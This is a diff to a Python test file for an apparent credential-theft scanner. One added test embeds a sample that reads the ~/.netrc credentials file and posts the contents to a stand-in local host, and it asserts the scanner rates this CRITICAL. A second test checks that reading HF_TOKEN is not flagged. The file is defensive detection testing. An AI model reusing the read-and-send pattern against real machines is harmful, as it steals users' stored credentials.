@@ -1,4 +1,5 @@
-from native_helpers import high, rules
+from loadguard.model import Severity
+from native_helpers import high, rules, scan
 
 
 def test_credential_paths_even_when_built():
@@ -67,3 +68,31 @@ def test_tokenizer_special_tokens_are_not_secrets():
     """
     assert rules(source) == set()
     assert not high(source)
+
+
+def test_collect_in_one_function_ship_in_another_is_critical():
+    source = """
+    import os, urllib.request
+
+    def _collect():
+        with open(os.path.expanduser("~/.netrc")) as handle:
+            return handle.read()
+
+    def _ship(data):
+        urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:9/", data=data))
+    """
+    found = [f for f in scan(source) if f.rule_id == "LG-CRED-004"]
+    assert found and found[0].severity == Severity.CRITICAL
+
+
+def test_hub_token_passed_to_hub_client_is_not_critical():
+    source = """
+    import os, requests
+
+    def token():
+        return os.environ.get("HF_TOKEN")
+
+    def fetch(url):
+        return requests.get(url)
+    """
+    assert all(f.severity < Severity.CRITICAL for f in scan(source))
